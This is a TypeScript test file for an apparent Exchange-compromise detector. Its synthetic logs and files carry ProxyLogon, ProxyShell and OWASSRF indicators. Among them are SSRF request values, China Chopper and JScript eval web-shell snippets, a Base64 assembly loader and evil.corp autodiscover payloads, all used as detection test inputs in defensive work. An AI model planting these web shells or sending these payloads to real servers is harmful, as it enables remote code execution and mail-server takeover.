// Behaviour of exhunt's built-in rule pack (content/rules) on realistic records, one positive and
// at least one negative per rule. Records are synthetic and follow the documented log formats.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { HostContext } from '../../core/detector.js';
import type { Hit } from '../../core/finding.js';
import type { RecordKind } from '../../core/origin.js';
import { Columns, MapRecord, TabularRecord } from '../../core/record.js';
import { loadDetectors } from '../../engine/content.js';

const set = loadDetectors();
const host: HostContext = { exchangeInstall: 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\' };

function run(kind: RecordKind, rec: TabularRecord | MapRecord, h: HostContext = host): Hit[] {
  return (set.byKind.get(kind) ?? []).map((d) => d.match(rec, h)).filter((x): x is Hit => x !== null);
}
const ids = (hits: Hit[]): string[] => hits.map((h) => h.ruleId).sort();

const PROXY = new Columns(['DateTime', 'RequestId', 'UrlHost', 'UrlStem', 'AnchorMailbox', 'UserAgent', 'ClientIpAddress', 'ServerHostName', 'HttpStatus', 'Method', 'BackEndCookie', 'AuthenticatedUser']);
function proxy(v: Partial<Record<string, string>>): TabularRecord {
  const values = PROXY.names.map((n) => v[n] ?? '');
  return new TabularRecord('httpproxy', { path: 'HttpProxy/Ecp/HttpProxy_2021030304-1.LOG', line: 9, kind: 'httpproxy' }, v.DateTime ?? null, PROXY, values);
}
const IIS = new Columns(['date', 'time', 's-ip', 'cs-method', 'cs-uri-stem', 'cs-uri-query', 's-port', 'cs-username', 'c-ip', 'cs(User-Agent)', 'cs(Referer)', 'sc-status']);
function iis(v: Partial<Record<string, string>>): TabularRecord {
  const values = IIS.names.map((n) => v[n] ?? '');
  return new TabularRecord('iis', { path: 'W3SVC1/u_ex210303.log', line: 5, kind: 'iis' }, '2021-03-03T04:05:06.000Z', IIS, values);
}
function file(fields: Record<string, string>): MapRecord {
  return new MapRecord('file', { path: fields.TreePath ?? 'x', line: null, kind: 'file' }, null, { SHA256: '', Content: '', ...fields });
}

test('the built-in pack loads and compiles without problems', () => {
  assert.deepEqual(set.errors.map((e) => e.message), []);
  assert.ok(set.detectors.length >= 20);
});

test('CVE-2021-26855: AnchorMailbox SSRF, graded by target', () => {
  const [ssrf] = run('httpproxy', proxy({ AnchorMailbox: 'ServerInfo~a]@exch01.contoso.local:444/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory#', HttpStatus: '200', ClientIpAddress: '86.105.18.116', DateTime: '2021-03-03T04:05:06.123Z' }));
  assert.equal(ssrf?.ruleId, 'Exchange.ProxyLogon.SsrfHttpProxy');
  assert.equal(ssrf?.severity, 'high');
  assert.equal(ssrf?.clientIp, '86.105.18.116');
  assert.equal(ssrf?.report, 'Cve-2021-26855');
  assert.equal(ssrf?.source.line, 9);
  assert.equal(ssrf?.time, '2021-03-03T04:05:06.123Z');

  const [session] = run('httpproxy', proxy({ AnchorMailbox: 'ServerInfo~a]@exch01.contoso.local:444/ecp/proxyLogon.ecp?#', HttpStatus: '241' }));
  assert.equal(session?.severity, 'critical');
  assert.equal(session?.outcome, 'compromised');

  const [auto] = run('httpproxy', proxy({ AnchorMailbox: 'ServerInfo~a]@exch01:444/autodiscover/autodiscover.xml?#' }));
  assert.equal(auto?.severity, 'low', 'autodiscover-only attempts are kept, low');
  const [probe] = run('httpproxy', proxy({ AnchorMailbox: 'ServerInfo~localhost/owa/auth/logon.aspx?~3' }));
  assert.equal(probe?.severity, 'info');
  assert.equal(probe?.outcome, 'context');
});

test('CVE-2021-26855: evidence only in BackEndCookie is found; normal rows are not', () => {
  const [hit] = run('httpproxy', proxy({ AnchorMailbox: 'Smtp~alice@contoso.local', BackEndCookie: 'Server~a]@exch01.contoso.local:444/mapi/emsmdb?~1942062522' }));
  assert.equal(hit?.ruleId, 'Exchange.ProxyLogon.SsrfHttpProxy');
  assert.equal(hit?.severity, 'high');
  assert.deepEqual(run('httpproxy', proxy({ AnchorMailbox: 'Smtp~alice@contoso.local', BackEndCookie: 'Database~6f2e1c3a-1111-2222-3333-444455556666~1942062522~2021-03-03T04:05:06' })), []);
  assert.deepEqual(run('httpproxy', proxy({ AnchorMailbox: 'ServerInfo~exch02.contoso.local' })), [], 'ServerInfo without a path is routing, not SSRF');
});

test('CVE-2021-27065: Reset virtual directory through SSRF', () => {
  const hits = run('httpproxy', proxy({ AnchorMailbox: 'ServerInfo~a]@exch01:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=x#', HttpStatus: '200' }));
  assert.deepEqual(ids(hits), ['Exchange.ProxyLogon.ResetVirtualDirectory', 'Exchange.ProxyLogon.SsrfHttpProxy']);
  const reset = hits.find((h) => h.ruleId.endsWith('ResetVirtualDirectory'));
  assert.equal(reset?.severity, 'critical');
  assert.equal(reset?.report, 'Cve-2021-27065-ResetVDir');
  const failed = run('httpproxy', proxy({ AnchorMailbox: 'ServerInfo~a]@exch01:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#', HttpStatus: '500' }));
  assert.equal(failed.find((h) => h.ruleId.endsWith('ResetVirtualDirectory'))?.outcome, 'attempted');
});

test('CVE-2021-27065: ECP Set-OabVirtualDirectory with a script in ExternalUrl, each line reported', () => {
  const cols = new Columns(['TimeStamp', 'ServerName', 'EventId', 'EventData']);
  const mk = (data: string, line: number): TabularRecord =>
    new TabularRecord('ecp', { path: 'ECP/Server/ECPServer20210303-1.LOG', line, kind: 'ecp' }, '2021-03-03T04:10:00.000Z', cols, ['2021-03-03T04:10:00.000Z', 'EXCH01', '1', data], { CMD: data });
  const bad = mk(`S:TIME=1;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["exec_code"],"unsafe");}</script>'.Identity='OAB (Default Web Site)';S:REQID=`, 12);
  const [hit] = run('ecp', bad);
  assert.equal(hit?.ruleId, 'Exchange.ProxyLogon.EcpSetVirtualDirectoryScript');
  assert.equal(hit?.source.line, 12);
  assert.equal(hit?.report, 'Cve-2021-27065');
  assert.deepEqual(run('ecp', mk("S:CMD=Set-OabVirtualDirectory.ExternalUrl='https://mail.contoso.local/OAB'.Identity='OAB (Default Web Site)'", 13)), []);
  assert.deepEqual(run('ecp', mk('S:CMD=Get-OabVirtualDirectory;S:URL=/ecp/<b>', 14)), []);
});

test('CVE-2021-26858: OAB download outside ClientAccess\\OAB, with install path known or not', () => {
  const cols = new Columns(['Message']);
  const mk = (msg: string): TabularRecord => new TabularRecord('oab', { path: 'OABGeneratorLog/x.LOG', line: 3, kind: 'oab' }, null, cols, [msg]);
  const outside = mk("2021-03-03T04:20:00.000Z,Download failed and temporary file '\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be removed");
  const [hit] = run('oab', outside);
  assert.equal(hit?.ruleId, 'Exchange.ProxyLogon.OabDownloadOutsideOab');
  assert.equal(hit?.evidence.DownloadPath, '\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\discover.aspx');
  const inside = mk("Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\a.tmp' needs to be removed");
  assert.deepEqual(run('oab', inside), []);
  assert.deepEqual(run('oab', inside, { exchangeInstall: null }), [], 'unknown install: any ClientAccess\\OAB folder is accepted');
  const otherInstall = mk("Download failed and temporary file 'D:/Exchange/ClientAccess/OAB/x.tmp' needs to be removed");
  assert.deepEqual(run('oab', otherInstall, { exchangeInstall: 'D:\\Exchange\\' }), [], 'forward slashes compare as backslashes');
  assert.equal(run('oab', otherInstall).length, 1, 'but it is outside the install this host has');
});

test('IIS: SSRF POSTs to static ECP resources, not GETs or longer names', () => {
  assert.deepEqual(ids(run('iis', iis({ 'cs-method': 'POST', 'cs-uri-stem': '/ecp/y.js', 'sc-status': '200', 'cs(User-Agent)': 'python-requests/2.25.1' }))), [
    'Exchange.ProxyLogon.IisHafniumUserAgent',
    'Exchange.ProxyLogon.IisSsrfStaticResource',
  ]);
  assert.equal(run('iis', iis({ 'cs-method': 'POST', 'cs-uri-stem': '/ecp/default.flt', 'sc-status': '404' }))[0]?.severity, 'medium');
  assert.deepEqual(run('iis', iis({ 'cs-method': 'GET', 'cs-uri-stem': '/ecp/main.css', 'sc-status': '200' })), []);
  assert.deepEqual(run('iis', iis({ 'cs-method': 'POST', 'cs-uri-stem': '/ecp/scripts.js', 'sc-status': '200' })), []);
});

test('IIS: web shell requests and benign OWA traffic', () => {
  const shell = run('iis', iis({ 'cs-method': 'POST', 'cs-uri-stem': '/aspnet_client/system_web/discover.aspx', 'sc-status': '200', 'cs(User-Agent)': 'antSword/v2.1' }));
  assert.deepEqual(ids(shell), ['Exchange.ProxyLogon.IisHafniumUserAgent', 'Exchange.WebShell.IisAspnetClientScript']);
  assert.equal(shell.find((h) => h.ruleId.endsWith('IisAspnetClientScript'))?.outcome, 'compromised');
  const owa = run('iis', iis({ 'cs-method': 'POST', 'cs-uri-stem': '/owa/auth/OutlookZH.aspx', 'sc-status': '200' }));
  assert.deepEqual(ids(owa), ['Exchange.WebShell.IisOwaAuthNonStandard']);
  const current = run('iis', iis({ 'cs-method': 'POST', 'cs-uri-stem': '/owa/auth/Current/themes/resources/error.aspx', 'sc-status': '200' }));
  assert.equal(current[0]?.severity, 'critical');
  for (const stem of ['/owa/auth/logon.aspx', '/owa/auth/15.1.2176/themes/resources/favicon.ico', '/owa/', '/ecp/', '/Microsoft-Server-ActiveSync']) {
    assert.deepEqual(run('iis', iis({ 'cs-method': 'POST', 'cs-uri-stem': stem, 'sc-status': '200', 'cs(User-Agent)': 'Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)' })), [], stem);
  }
});

test('IIS: ProxyShell, ProxyNotShell and OWASSRF', () => {
  const ps = run('iis', iis({ 'cs-method': 'POST', 'cs-uri-stem': '/autodiscover/autodiscover.json', 'cs-uri-query': '@evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQw&Email=autodiscover/autodiscover.json%3F@evil.corp', 'sc-status': '200' }));
  assert.equal(ps[0]?.ruleId, 'Exchange.ProxyShell.AutodiscoverSsrf');
  assert.equal(ps[0]?.severity, 'critical');
  const pns = run('iis', iis({ 'cs-uri-stem': '/autodiscover/autodiscover.json', 'cs-uri-query': '@evil.corp/owa/&Email=autodiscover/autodiscover.json%3F@evil.corp&Protocol=XYZ&FooProtocol=Powershell', 'sc-status': '302' }));
  assert.match(pns[0]?.title ?? '', /ProxyNotShell/);
  assert.ok(pns[0]?.cves.includes('CVE-2022-41040'));
  const owassrf = run('iis', iis({ 'cs-method': 'POST', 'cs-uri-stem': '/owa/mastermailbox@outlook.com/powershell', 'sc-status': '200' }));
  assert.equal(owassrf[0]?.ruleId, 'Exchange.Owassrf.OwaPowershell');
  assert.equal(owassrf[0]?.outcome, 'compromised');
  assert.deepEqual(run('iis', iis({ 'cs-uri-stem': '/autodiscover/autodiscover.json', 'cs-uri-query': 'Email=alice@contoso.local&Protocol=ActiveSync', 'sc-status': '200' })), []);
  assert.deepEqual(run('iis', iis({ 'cs-uri-stem': '/powershell', 'cs-uri-query': 'serializationLevel=Full;ExchClientVer=15.1.2176.2', 'sc-status': '200' })), []);
});

const INSTALL = 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\';
test('files: web shells by place, name, path, content; standard files are not flagged', () => {
  const chopper = run('file', file({ Zone: 'aspnet-client', ZonePath: 'system_web\\discover.aspx', Name: 'discover.aspx', Extension: '.aspx', Path: 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\discover.aspx', CanonicalPath: 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\discover.aspx', Content: '<%@ Page Language="Jscript"%><%eval(Request.Item["Ananas"],"unsafe");%>' }));
  assert.deepEqual(ids(chopper), ['Exchange.WebShell.AspnetClientScript', 'Exchange.WebShell.ChinaChopper']);
  const zh = run('file', file({ Zone: 'owa-auth', ZonePath: 'OutlookZH.aspx', Name: 'OutlookZH.aspx', Extension: '.aspx', Path: 'D:\\Exchange\\FrontEnd\\HttpProxy\\owa\\auth\\OutlookZH.aspx', CanonicalPath: '%ExchangeInstallPath%\\FrontEnd\\HttpProxy\\owa\\auth\\OutlookZH.aspx', Content: 'Name : OAB (Default Web Site)\r\nExternalUrl : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["exec_code"],"unsafe");}</script>' }));
  assert.deepEqual(ids(zh), ['Exchange.WebShell.ChinaChopper', 'Exchange.WebShell.KnownPath', 'Exchange.WebShell.OabConfigScript', 'Exchange.WebShell.OwaAuthNonStandardFile'], 'MSTIC path matches under a non-default install');
  const loader = run('file', file({ Zone: 'ecp-auth', ZonePath: 'help.aspx', Name: 'help.aspx', Extension: '.aspx', Path: `${INSTALL}FrontEnd\\HttpProxy\\ecp\\auth\\help.aspx`, Content: '<%@ Page Language="C#" %><% System.Reflection.Assembly.Load(Convert.FromBase64String("TVqQAAMAAAAEAAAA")); %>' }));
  assert.deepEqual(ids(loader), ['Exchange.WebShell.Base64AssemblyLoader', 'Exchange.WebShell.EcpAuthNonStandardFile', 'Exchange.WebShell.KnownName']);
  for (const [zone, zonePath, name] of [
    ['owa-auth', 'logon.aspx', 'logon.aspx'],
    ['owa-auth', '15.1.2176\\scripts\\premium\\flogon.js', 'flogon.js'],
    ['ecp-auth', 'TimeoutLogoff.aspx', 'TimeoutLogoff.aspx'],
    ['oab', '6e7ff1c8-1c6a-4b0a-9a6c-2d0d6b2a1d1f\\oab.xml', 'oab.xml'],
  ] as const) {
    const ext = name.slice(name.lastIndexOf('.'));
    assert.deepEqual(run('file', file({ Zone: zone, ZonePath: zonePath, Name: name, Extension: ext, Path: `${INSTALL}x\\${name}`, CanonicalPath: `%ExchangeInstallPath%\\x\\${name}`, Content: '<%@ Page Language="C#" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>' })), [], `${zone} ${zonePath}`);
  }
});

test('files: a published SHA-256 is found in any zone', () => {
  const hits = run('file', file({ Zone: 'programdata', ZonePath: 'x.bin', Name: 'x.bin', Extension: '.bin', Path: 'C:\\ProgramData\\x.bin', CanonicalPath: 'C:\\ProgramData\\x.bin', SHA256: 'B75F163CA9B9240BF4B37AD92BC7556B40A17E27C2B8ED5C8991385FE07D17D0' }));
  assert.deepEqual(ids(hits), ['Exchange.WebShell.KnownHash']);
  assert.match(hits[0]?.evidence['indicator:exchange-march2021-sha256'] ?? '', /HAFNIUM/);
});

test('files: lsass dumps and ProgramData archives', () => {
  const dump = run('file', file({ Zone: 'staging', ZonePath: 'lsass.dmp', Name: 'lsass.dmp', Extension: '.dmp', Path: 'C:\\root\\lsass.dmp', CanonicalPath: 'C:\\root\\lsass.dmp' }));
  assert.equal(dump[0]?.ruleId, 'Exchange.Staging.LsassDump');
  assert.equal(dump[0]?.evidence.Type, 'LsassDump');
  const archive = run('file', file({ Zone: 'programdata', ZonePath: 'VSPerfMon\\ProgramData.7z', Name: 'ProgramData.7z', Extension: '.7z', Path: 'C:\\ProgramData\\VSPerfMon\\ProgramData.7z', CanonicalPath: 'C:\\ProgramData\\VSPerfMon\\ProgramData.7z' }));
  assert.equal(archive[0]?.severity, 'low');
  assert.deepEqual(run('file', file({ Zone: 'staging', ZonePath: 'setup.log', Name: 'setup.log', Extension: '.log', Path: 'C:\\Windows\\Temp\\setup.log', CanonicalPath: 'C:\\Windows\\Temp\\setup.log' })), []);
});

test('evidence values are capped in length', () => {
  const long = 'ServerInfo~a]@x:444/' + 'A'.repeat(10_000);
  const [hit] = run('httpproxy', proxy({ AnchorMailbox: long }));
  assert.ok((hit?.evidence.AnchorMailbox?.length ?? 0) < 4200);
  assert.match(hit?.evidence.AnchorMailbox ?? '', /more chars\]$/);
});
